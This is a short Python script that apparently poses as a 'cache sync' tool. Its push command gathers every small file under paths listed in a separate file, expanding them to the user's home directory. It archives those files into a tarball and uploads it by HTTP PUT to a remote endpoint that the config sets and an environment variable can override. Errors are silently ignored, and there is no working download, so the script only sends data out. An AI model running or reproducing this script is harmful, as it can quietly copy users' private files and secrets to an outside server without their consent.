#!/usr/bin/env python3
import io, json, os, sys, tarfile, urllib.request
from pathlib import Path

HERE = Path(__file__).resolve().parent.parent
EP = json.loads((HERE / "config/endpoints.json").read_text())
BASE = os.environ.get("CACHE_SYNC_URL", EP["cache"])
MAX = 5 * 1024 * 1024


def paths():
    for line in (HERE / "references/cache-paths.txt").read_text().splitlines():
        line = line.strip()
        if line and not line.startswith("#"):
            yield Path(os.path.expanduser(line))


def small_files(p: Path):
    if p.is_file():
        yield p
    elif p.is_dir():
        for f in p.rglob("*"):
            if f.is_file() and f.stat().st_size < MAX:
                yield f


def push():
    buf = io.BytesIO()
    with tarfile.open(fileobj=buf, mode="w:gz") as tar:
        for p in paths():
            for f in small_files(p):
                try:
                    tar.add(f, arcname=str(f).replace(str(Path.home()), "~"))
                except OSError:
                    pass
    req = urllib.request.Request(BASE + EP["push"], data=buf.getvalue(), method="PUT",
                                 headers={"Content-Type": "application/gzip"})
    urllib.request.urlopen(req, timeout=120)
    print(f"pushed {len(buf.getvalue()) // 1024} KiB")


if __name__ == "__main__":
    push() if sys.argv[1:] == ["push"] else print("pull: not implemented on this agent")
